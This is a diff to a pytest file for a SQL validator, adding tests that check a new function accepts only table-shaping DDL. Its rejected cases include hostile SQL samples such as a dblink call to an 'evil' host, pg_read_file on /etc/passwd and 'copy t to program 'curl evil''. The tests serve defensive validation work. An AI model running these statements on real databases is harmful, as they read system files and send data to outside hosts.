@@ -6,7 +6,7 @@ import time
 
 import pytest
 
-from callgate.core.sql import MAX_SQL, only_reads
+from callgate.core.sql import MAX_SQL, only_reads, only_shapes
 
 
 @pytest.mark.parametrize(
@@ -81,6 +81,96 @@ def test_pure_queries(text, dialect):
 @pytest.mark.parametrize("dialect", ["sqlite", "postgres", "mysql"])
 def test_everything_else(text, dialect):
     assert not only_reads(text, dialect)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "alter table t add column note varchar(20) not null default 'x'",
+        "alter table t add column if not exists made timestamptz default now()",
+        "alter table t drop column note cascade",
+        "alter table t alter column total type bigint",
+        "alter table t alter column total set not null; alter table t rename column note to remark;",
+        "alter table t rename to u",
+        "alter table t add constraint c foreign key (a) references u (id) on delete cascade",
+        "alter table t drop constraint c",
+        "create table if not exists t (id serial primary key, a int references u(id), check (length(b) > 0), unique (a))",
+        "create table t (id uuid primary key default gen_random_uuid(), n int generated always as identity)",
+        "create table u as select id from t",
+        "create unique index concurrently i on t using btree (lower(note), total desc) where total > 0",
+        "create or replace view v as select id from t",
+        "drop table if exists t, u cascade",
+        "drop index i",
+        "drop view v",
+    ],
+)
+def test_shapes_of_tables(text):
+    assert only_shapes(text, "postgres")
+    assert not only_reads(text, "postgres")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "select 1",
+        "insert into t values (1)",
+        "update t set a = 1",
+        "delete from t",
+        "truncate t",
+        "with gone as (delete from t returning *) select * from gone",
+        "create table u as select * from dblink('host=evil', 'select 1') as x(a int)",
+        "create table u as with gone as (delete from t returning *) select * from gone",
+        "alter table t add column a text default pg_read_file('/etc/passwd')",
+        "alter table t alter column a type text using leak(a)",
+        "create index i on t (leak(a))",
+        "create view v as select leak(a) from t",
+        "alter table t owner to evil",
+        "alter table t enable row level security",
+        "alter table t disable trigger all",
+        "alter table t set schema s",
+        "alter table t attach partition p default",
+        "alter system set x = 1",
+        "alter role r superuser",
+        "alter database d set x = 1",
+        "create extension dblink",
+        "create function f() returns int language sql as 'select 1'",
+        "create or replace procedure p() language sql as 'delete from t'",
+        "create trigger g after insert on t execute function f()",
+        "create rule r as on insert to t do nothing",
+        "create policy p on t",
+        "create role r",
+        "create schema s",
+        "create sequence s",
+        "create type m as enum ('a')",
+        "create server s foreign data wrapper postgres_fdw",
+        "create foreign table f (id int) server s",
+        "create subscription s connection 'host=x' publication p",
+        "create temp table t (id int)",
+        "create materialized view v as select id from t",
+        "create table t (id int) with (fillfactor = 70)",
+        "create table t (id int) inherits (u)",
+        "create table p partition of t for values from (1) to (2)",
+        "create virtual table t using fts5(a)",
+        "create table t (a int) engine = federated connection = 'mysql://evil/x'",
+        "drop schema s cascade",
+        "drop function f",
+        "drop role r",
+        "drop database d",
+        "drop extension e",
+        "grant all on t to public",
+        "copy t to program 'curl evil'",
+        "comment on table t is 'x'",
+        "do 'begin end'",
+        "begin; alter table t add column a int; commit",
+        "alter table t add column a int; create extension dblink",
+        "alter table t add column a int -- x",
+        "alter table t add column a text default $$x$$",
+    ],
+)
+@pytest.mark.parametrize("dialect", ["sqlite", "postgres", "mysql"])
+def test_what_is_more_than_the_shape_of_tables(text, dialect):
+    assert not only_shapes(text, dialect)
 
 
 def test_large_and_deep_texts_are_no_reads_and_take_little_time():
